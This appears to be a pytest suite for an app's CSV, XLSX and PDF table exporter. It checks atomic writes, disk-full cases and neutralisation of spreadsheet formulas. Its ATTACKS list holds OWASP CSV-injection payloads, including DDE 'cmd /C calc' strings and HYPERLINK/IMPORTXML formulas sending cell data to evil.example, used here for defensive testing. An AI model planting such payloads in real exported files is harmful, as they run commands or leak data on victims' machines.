"""A file for a person, of any kind: whole or not at all, never over what is there, each refusal with its remedy."""

from __future__ import annotations

import errno
import os
import sys
import unicodedata
import zipfile
from datetime import date, time
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from helpers.own_disk import own_disk
from hypothesis import given, settings
from hypothesis import strategies as st

from app.domain.csv_cell import harmless
from app.domain.table import Head, Holds, Table
from app.errors import FileFault
from app.services.table_file import STEP, Stopped, Writer, Writing, write_csv
from app.services.workbook_file import text_of, write_xlsx
from ui.table_pdf import write_pdf

HEADS = (Head("Дата"), Head("Сума", Holds.SUM))
ROWS = [["22.11.2026", Decimal("1438.00")], ["=1+1", Decimal("-96.00")]]
TABLE = Table("Чеки", HEADS, ROWS)
WRITERS = [
    pytest.param(write_csv, id="csv"),
    pytest.param(write_xlsx, id="xlsx"),
    pytest.param(write_pdf, id="pdf"),
]
#: The kernel's own folder: nobody makes files there, root neither.
FORBIDDEN = Path("/sys/kernel")
#: OWASP, «CSV Injection»: what begins a formula, and what is done to hide it.
ATTACKS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"ok")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",CONCATENATE(A2:E2)),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    '"=1+1',
    "'=1+1",
    "«=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "%0A=1+1",
    '=DDE("cmd";"/C calc";"a")',
)


@pytest.fixture(autouse=True)
def _window(qapp: object) -> None:
    """The PDF's fonts need an application, as the till has one."""


def refused(path: Path, write: Writer) -> str:
    with pytest.raises(FileFault) as fault:
        write(path, TABLE, Writing())
    return fault.value.kind


def test_excel_in_ukrainian_opens_it(tmp_path: Path) -> None:
    write_csv(tmp_path / "чеки.csv", TABLE, Writing())
    data = (tmp_path / "чеки.csv").read_bytes()
    assert data == ("\ufeff" + '"Дата";"Сума"\r\n"22.11.2026";1438,00\r\n"\'=1+1";-96,00\r\n').encode(), (
        "a mark of UTF-8, semicolons, commas, ends of lines of Windows"
    )


def test_a_workbook_has_real_numbers_days_and_times(tmp_path: Path) -> None:
    heads = (
        Head("День", Holds.DAY),
        Head("Час", Holds.TIME),
        Head("Назва"),
        Head("Сума", Holds.SUM),
        Head("К-сть", Holds.QUANTITY),
        Head("Чеків", Holds.COUNT),
    )
    rows = [
        (date(2026, 11, 22), time(14, 37, 5), "Хліб", Decimal("1438.10"), Decimal("1.254"), 7),
        (None, None, "", None, "невідомо", 0),
    ]
    path = tmp_path / "продажі товарів.xlsx"
    write_xlsx(
        path, Table("Продажі: [товарів] */?", heads, rows, total=(None, None, "Разом", Decimal(1), None, 7)), Writing()
    )
    sheet = openpyxl.load_workbook(path).active
    assert sheet.title == "Продажі   товарів"
    assert [cell.value for cell in sheet[1]] == [head.title for head in heads]
    day, at, name, amount, count, receipts = sheet[2]
    assert (day.value.date(), at.value, name.value) == (date(2026, 11, 22), time(14, 37, 5), "Хліб")
    assert (amount.value, count.value, receipts.value) == (1438.1, 1.254, 7)
    assert (day.number_format, amount.number_format) == ("dd.mm.yyyy", "#,##0.00")
    assert {amount.data_type, count.data_type, receipts.data_type} == {"n"}
    assert [cell.value for cell in sheet[3]] == [None, None, None, None, "невідомо", 0]
    assert sheet["C4"].value == "Разом"
    assert sheet["C4"].font.bold
    assert sheet.freeze_panes == "A2"


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_is_a_formula_in_a_workbook(tmp_path: Path, attack: str) -> None:
    path = tmp_path / "x.xlsx"
    write_xlsx(path, Table(attack, (Head(attack), Head("x")), [(attack, "a")], total=(attack, None)), Writing())
    sheet = openpyxl.load_workbook(path).active
    for place in ("A1", "A2", "A3"):
        cell = sheet[place]
        assert cell.data_type == "s"
        first = unicodedata.normalize("NFKC", str(cell.value)).lstrip()[:1]
        assert first not in "=+-@\t\r\n", cell.value
    with zipfile.ZipFile(path) as packed:
        body = ElementTree.fromstring(packed.read("xl/worksheets/sheet1.xml"))
    assert not [one for one in body.iter() if one.tag.endswith("}f")], "no cell holds a formula"


@settings(max_examples=60)
@given(st.text(max_size=60))
def test_any_text_makes_a_workbook_that_opens(tmp_path_factory: pytest.TempPathFactory, text: str) -> None:
    path = tmp_path_factory.mktemp("x") / "x.xlsx"
    write_xlsx(path, Table(text, (Head(text),), [(text,)]), Writing())
    sheet = openpyxl.load_workbook(path).active
    said = sheet["A2"].value or ""
    assert said.replace("\r", "") == text_of(text) or (not text and said == "")


def test_a_letter_never_begins_a_formula() -> None:
    """What lets nearly every name through unlooked at."""
    for code in range(sys.maxunicode + 1):
        sign = chr(code)
        if sign.isalpha() and unicodedata.normalize("NFKC", sign)[:1] in "=+-@\t\r\n":
            assert harmless(f"{sign}1").startswith("'"), hex(code)


@pytest.mark.parametrize("write", WRITERS)
def test_what_is_there_stays(tmp_path: Path, write: Writer) -> None:
    there = tmp_path / "x.csv"
    there.write_text("somebody's")
    assert refused(there, write) == "exists"
    assert there.read_text() == "somebody's"
    assert [path.name for path in tmp_path.iterdir()] == ["x.csv"]


@pytest.mark.parametrize("write", WRITERS)
def test_a_link_to_nowhere_is_not_written_through(tmp_path: Path, write: Writer) -> None:
    link = tmp_path / "link.csv"
    link.symlink_to(tmp_path / "elsewhere.csv")
    assert refused(link, write) == "exists"
    assert [path.name for path in tmp_path.iterdir()] == ["link.csv"]


@pytest.mark.parametrize("write", WRITERS)
@pytest.mark.parametrize("name", ["no/folder.csv", "x" * 300 + ".csv", "nul\x00.csv"])
def test_a_place_that_is_none(tmp_path: Path, name: str, write: Writer) -> None:
    assert refused(tmp_path / name, write) == "absent"
    (tmp_path / "file").write_text("")
    assert refused(tmp_path / "file" / "x.csv", write) == "absent"
    assert [path.name for path in tmp_path.iterdir()] == ["file"]


@pytest.mark.parametrize("write", WRITERS)
@pytest.mark.parametrize(("number", "kind"), [(errno.ENOSPC, "full"), (errno.EACCES, "rights"), (errno.EIO, "io")])
def test_a_disk_that_refuses_leaves_nothing_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, number: int, kind: str, write: Writer
) -> None:
    def fails(*given: object) -> None:
        raise OSError(number, os.strerror(number))

    for name in ("fsync", "replace"):
        with monkeypatch.context() as patch:
            patch.setattr(os, name, fails)
            assert refused(tmp_path / "x.csv", write) == kind
            assert not list(tmp_path.iterdir()), name


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="only Linux has a disk that is always full")
@pytest.mark.parametrize("write", WRITERS)
def test_a_full_disk_for_real(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, write: Writer) -> None:
    real = Path.open

    def full(path: Path, *given: object, **more: object) -> object:
        return real(Path("/dev/full"), "wb") if path.suffix == ".part" else real(path, *given, **more)  # type: ignore[call-overload]

    monkeypatch.setattr(Path, "open", full)
    assert refused(tmp_path / "x.csv", write) == "full"
    assert not list(tmp_path.iterdir())


@pytest.mark.skipif(not FORBIDDEN.is_dir(), reason="only Linux has a folder that is closed to its superuser too")
@pytest.mark.parametrize("write", WRITERS)
def test_a_folder_that_is_not_ours(write: Writer) -> None:
    before = sorted(FORBIDDEN.iterdir())
    assert refused(FORBIDDEN / "x.csv", write) == "rights"
    assert sorted(FORBIDDEN.iterdir()) == before


#: Writes a table of half a megabyte into a folder and says how that went and what is left there.
LARGER = """
import hashlib, sys
from pathlib import Path
from app.domain.table import Head, Table
from app.errors import FileFault
from app.services.table_file import Writing, write_csv
from app.services.workbook_file import write_xlsx

folder, kind = Path(sys.argv[1]), sys.argv[2]
rows = [(hashlib.sha512(b"%d" % number).hexdigest(),) for number in range(4000)]
try:
    {"csv": write_csv, "xlsx": write_xlsx}[kind](folder / "x", Table("x", (Head("x"),), rows), Writing())
except FileFault as fault:
    print(fault.kind, list(folder.iterdir()))
"""


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_disk_that_fills_up_in_the_middle_is_told_and_left_as_it_was(tmp_path: Path, kind: str) -> None:
    done = own_disk(tmp_path, "64k", sys.executable, "-c", LARGER, str(tmp_path), kind)
    assert done.stdout == "full []\n", done.stderr


@pytest.mark.parametrize("write", WRITERS)
def test_it_takes_its_name_only_when_it_is_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, write: Writer
) -> None:
    path, seen = tmp_path / "теку з пробілом" / "звіт.csv", []
    path.parent.mkdir()
    sync = os.fsync

    def look(number: int) -> None:
        seen.append(path.exists())
        sync(number)

    monkeypatch.setattr(os, "fsync", look)
    write(path, TABLE, Writing())
    assert seen[0] is False
    assert [one.name for one in path.parent.iterdir()] == ["звіт.csv"]
    assert path.stat().st_size > 50


@pytest.mark.parametrize("write", WRITERS)
def test_a_stop_in_the_middle_leaves_nothing_behind(tmp_path: Path, write: Writer) -> None:
    class Stopping(Writing):
        def at(self, row: int) -> None:
            if row > STEP:
                self.stop()
            super().at(row)

    writing = Stopping()
    with pytest.raises(Stopped):
        write(tmp_path / "x.csv", Table("Чеки", HEADS, ROWS * 1000), writing)
    assert 0 < writing.done < 2000
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("write", WRITERS)
def test_it_tells_how_far_it_is_and_an_empty_table_is_one_too(tmp_path: Path, write: Writer) -> None:
    writing = Writing()
    write(tmp_path / "x", Table("Чеки", HEADS, ROWS * 500), writing)
    assert writing.done == 1000
    write(tmp_path / "empty", Table("Чеки", HEADS, []), Writing())
    assert (tmp_path / "empty").stat().st_size > 0
